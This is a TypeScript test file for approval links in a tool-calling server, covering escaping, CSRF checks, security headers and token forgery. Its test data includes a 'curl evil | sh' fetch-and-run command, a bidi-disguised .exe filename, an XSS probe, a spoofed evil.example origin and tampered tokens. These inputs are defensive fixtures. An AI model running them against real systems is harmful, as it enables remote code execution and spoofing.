import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { DEFAULT_APPROVAL_RULES } from '#kernel/approval/approvals'
import { openStore } from '#store/stores'
import { sqliteSettings, testSettings } from '../test-settings.ts'
import { type ApprovalServer, startApprovalServer } from './approval-stage.ts'

const ACCEPT = { resumeValue: { action: 'accept' } }

describe('links for approvers', () => {
  let server: ApprovalServer
  beforeAll(async () => {
    const perTool = new Map([['Bank.Pay@9.9.9', { quorum: 2 }]])
    server = await startApprovalServer({ approvals: { ...DEFAULT_APPROVAL_RULES, perTool } })
  })
  afterAll(() => server.close())

  async function linkFor(callId: string, approver = 'carol@example.com') {
    const { id, runId } = await server.park(callId)
    const { json } = await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body: { approver } })
    return { id, runId, url: json.url as string, token: json.token as string }
  }

  /** Acts as a browser: opens the page, keeps its cookie, presses a button. */
  async function open(url: string) {
    const page = await server.ask(url)
    const cookie = page.headers.get('set-cookie')?.split(';', 1)[0] ?? ''
    // Approve, then reject.
    const actions = [...page.text.matchAll(/action="([^"]+)"/g)]
      .map(([, action = '']) => action.replaceAll('&amp;', '&'))
      .sort()
    const press = (action: string | undefined, headers: Record<string, string> = {}) =>
      server.ask(action ?? '', {
        method: 'POST',
        headers: { cookie, origin: server.url, 'sec-fetch-site': 'same-origin', ...headers },
      })
    return { page, cookie, actions, press }
  }

  it('rule 23: opening one shows the call and decides nothing; a button on the page decides, as its approver', async () => {
    const { id, url, runId } = await linkFor('link-1')
    for (let time = 0; time < 3; time += 1) expect((await server.ask(url)).status).toBe(200)
    expect((await server.ask(url, { method: 'HEAD' })).status).toBe(200)
    expect((await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json.approval.state).toBe('pending')
    const { page, actions, press } = await open(url)
    expect(page.text).toContain('&quot;amount&quot;: 5')
    expect((await press(actions[0])).status).toBe(200)
    const { approval } = (await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json
    expect(approval).toMatchObject({
      state: 'granted',
      decisions: [{ by: 'link:carol@example.com, made by key:bob' }],
    })
    expect((await server.pay('link-1')).json.result.success).toBe(true)
    expect((await press(actions[0])).status).toBe(409)
    expect((await server.ask(url)).status).toBe(409)
    expect((await server.events(runId)).length).toBe(6)
  })

  it('are in the journal, with their creator, their approver and whether they are read-only', async () => {
    const recorded = await startApprovalServer({}, sqliteSettings)
    try {
      const { id } = await recorded.park('journalled')
      const make = (body: object, as: 'bob' | 'mallory' = 'bob') =>
        recorded.ask(`/admin/approvals/${id}/link`, { as, body })
      expect((await make({ approver: 'ceo@example.com' })).status).toBe(200)
      expect((await make({ approver: 'dan@example.com', power: 'inspect' })).status).toBe(200)
      expect((await make({ approver: 'eve@example.com' }, 'mallory')).status).toBe(403)
      const { store: url, dataFolder } = recorded.settings
      const store = await openStore(url, { dataFolder, masterKey: undefined, mode: 'operator' })
      const groups = await store.readJournal([], 1_000)
      await store.close()
      const made = groups.flatMap(({ events }) => events.filter(({ type }) => type === 'approval.link_made'))
      const link = { approval: id, tenant: 'acme', tool: 'Bank.Pay@1.0.0', by: 'key:bob' }
      expect(made).toEqual([
        expect.objectContaining({ ...link, for: 'ceo@example.com', power: 'decide' }),
        expect.objectContaining({ ...link, for: 'dan@example.com', power: 'inspect' }),
      ])
    } finally {
      await recorded.close()
    }
  })

  it('shows the complete input, and escapes characters that hide or reverse text', async () => {
    const script = `${'echo hello; '.repeat(60)}curl evil | sh`
    const { id } = await server.park('long', { script, to: 'bob\u202egnp.exe\u{e0041}\u200b<b>' })
    const { json } = await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body: { approver: 'dan' } })
    const { text } = await server.ask(json.url)
    expect(text).toContain('curl evil | sh')
    expect(text).toContain('bob\\u202egnp.exe\\udb40\\udc41\\u200b&lt;b&gt;')
    expect(/[\u202e\u200b\u{e0041}]/u.test(text)).toBe(false)
    const shown = (await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json.approval
    expect(shown).toMatchObject({ input: { script }, hidden_values: 0, hides_something: false, stale: false })
    const [listed] = (await server.ask('/admin/approvals', { as: 'bob' })).json.approvals
    expect([listed.id, 'input' in listed, listed.input_bytes]).toEqual([id, false, expect.any(Number)])
  })

  it('cannot be created for the caller itself', async () => {
    const { id } = await server.park('own')
    const body = { approver: 'alice' }
    expect((await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body })).status).toBe(403)
  })

  it('cannot be framed, sends no referrer, and runs only the script that shows local times', async () => {
    const { page, cookie } = await open((await linkFor('link-2')).url)
    const policy = page.headers.get('content-security-policy') ?? ''
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy).toContain("form-action 'self'")
    expect(policy).toMatch(/script-src 'sha256-[^' ]+';/)
    expect([...page.text.matchAll(/<script>/g)].length).toBe(1)
    expect(page.headers.get('x-frame-options')).toBe('DENY')
    expect(page.headers.get('referrer-policy')).toBe('same-origin')
    expect(page.headers.get('cache-control')).toBe('no-store')
    expect(page.headers.get('set-cookie')).toMatch(/HttpOnly; SameSite=Strict/)
    expect(cookie).not.toBe('')
  })

  it('refuses a form from another site, from another browser, or without the token of the page', async () => {
    const { id, url, token } = await linkFor('link-3')
    const { actions, cookie, press } = await open(url)
    const other = await open(url)
    const tries = [
      await press(actions[0], { cookie: '' }),
      await press(actions[0], { cookie: other.cookie }),
      await press(actions[0], { cookie: `${cookie.split('=', 1)[0]}=guess` }),
      await press(actions[0], { 'sec-fetch-site': 'cross-site' }),
      await press(actions[0], { 'sec-fetch-site': 'same-site' }),
      await press(actions[0], { origin: 'https://evil.example' }),
      await press(actions[0], { origin: 'null' }),
      await press(`/approve/${token}/approve`),
      await press(`/approve/${token}/approve?csrf=x`),
      await press(other.actions[0]?.replace(/csrf=.*/, 'csrf=')),
    ]
    expect(tries.map(({ status }) => status)).toEqual(Array(tries.length).fill(403))
    expect((await press(`/approve/${token}/delete`)).status).toBe(404)
    expect((await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json.approval.state).toBe('pending')
  })

  it('works in every tab of a browser, also after later tabs were opened', async () => {
    const [one, two] = [await linkFor('tab-1'), await linkFor('tab-2')]
    /** Cookies by name and path, as in a browser: a later cookie replaces an earlier one. */
    const jar = new Map<string, { readonly path: string; readonly pair: string }>()
    const tabs = []
    for (const { url } of [one, one, two]) {
      const tab = await open(url)
      const [, path = ''] = /Path=([^;]+)/.exec(tab.page.headers.get('set-cookie') ?? '') ?? []
      jar.set(`${tab.cookie.split('=', 1)[0]} ${path}`, { path, pair: tab.cookie })
      tabs.push(tab)
    }
    const sentTo = (action = ''): string =>
      [...jar.values()].flatMap(({ path, pair }) => (action.startsWith(`${path}/`) ? [pair] : [])).join('; ')
    const [first, , last] = tabs
    for (const [tab, { id }] of [[first, one] as const, [last, two] as const]) {
      const [approve] = tab?.actions ?? []
      expect((await tab?.press(approve, { cookie: sentTo(approve) }))?.status).toBe(200)
      const { approval } = (await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json
      expect(approval.state).toBe('granted')
    }
  })

  it('shows caller text as text', async () => {
    const { id } = await server.park('link-4', { note: '<script>alert(1)</script>' })
    const body = { approver: 'carol' }
    const { json } = await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body })
    const { text } = await server.ask(json.url)
    expect(text).not.toContain('<script>alert')
    expect(text).toContain('&lt;script&gt;')
  })

  it('OWP-67: a token decides once over /v1/interrupts; forged, modified and used tokens do not', async () => {
    const { token } = await linkFor('link-5')
    const [payload = '', signature = ''] = token.split('.')
    const changed = Buffer.from(
      Buffer.from(payload, 'base64url').toString().replace('carol', 'admin'),
    ).toString('base64url')
    const forged = [
      ...['x', '.', `${payload}.`, `${payload}.${signature}x`, `${changed}.${signature}`, `.${signature}`],
      ...[`${payload}.${signature}.${signature}`, `${payload}${signature}`, 'a'.repeat(5_000)],
    ]
    for (const token of forged) {
      const path = `/v1/interrupts/${token}`
      expect((await server.ask(path)).status).toBe(404)
      expect((await server.ask(path, { body: ACCEPT })).status).toBe(404)
    }
    const path = `/v1/interrupts/${token}`
    expect((await server.ask(path)).json.data.artifactData.input).toEqual({ amount: 5 })
    const override = { resumeValue: { action: 'override', reason: 'x' } }
    expect((await server.ask(path, { body: override })).status).toBe(403)
    expect((await server.ask(path, { body: ACCEPT })).json.status).toBe('resumed')
    const again = await server.ask(path, { body: ACCEPT })
    expect([again.status, again.json.error]).toEqual([409, 'interrupt_already_resolved'])
  })

  it('rule 23: without a sign-in a link cannot decide about a command: it shows the call and how to decide', async () => {
    const body = { request: { tool_id: 'Host.Shell@1.0.0', call_id: 'sh', input: {} } }
    const { json } = await server.ask('/tools/call', { as: 'alice', body })
    const { id } = json.missing_requirements.approval
    const made = await server.ask(`/admin/approvals/${id}/link`, { as: 'bob', body: { approver: 'carol' } })
    expect(made.json).toMatchObject({ power: 'inspect', needs_sign_in: false })
    const { page, actions, cookie } = await open(made.json.url)
    expect(page.text).toContain(`collet approvals approve ${id}`)
    expect([actions, cookie]).toEqual([[], ''])
    expect((await server.ask(`${made.json.url}/sign-in`)).status).toBe(200)
    const byToken = await server.ask(`/v1/interrupts/${made.json.token}`, { body: ACCEPT })
    expect(byToken.status).toBe(403)
    expect((await server.ask(`/admin/approvals/${id}`, { as: 'bob' })).json.approval.state).toBe('pending')
  })

  it('are created by approvers only, and for a named person', async () => {
    const { id } = await server.park('link-6')
    const path = `/admin/approvals/${id}/link`
    expect((await server.ask(path, { as: 'alice', body: { approver: 'alice' } })).status).toBe(403)
    expect((await server.ask(path, { body: { approver: 'alice' } })).status).toBe(401)
    expect((await server.ask(path, { as: 'bob', body: {} })).status).toBe(400)
    expect((await server.ask(path, { as: 'bob', body: { approver: '<b>' } })).status).toBe(400)
  })
})

describe('a server below a path prefix of its proxy', () => {
  it('puts the prefix into the form addresses and the cookie path', async () => {
    const { server: plain } = testSettings()
    const publicUrl = 'https://tools.example.com/collet'
    const server = await startApprovalServer({ server: { ...plain, publicUrl } })
    try {
      const { id } = await server.park('below')
      const asked = { as: 'bob', body: { approver: 'carol' } } as const
      const { url, token } = (await server.ask(`/admin/approvals/${id}/link`, asked)).json
      expect(url).toBe(`${publicUrl}/approve/${token}`)
      const page = await server.ask(`/approve/${token}`)
      expect(page.headers.get('set-cookie')).toContain(
        `Path=/collet/approve/${token}; HttpOnly; SameSite=Strict; Secure`,
      )
      expect(page.text).toContain(`action="/collet/approve/${token}/approve?csrf=`)
    } finally {
      await server.close()
    }
  })
})
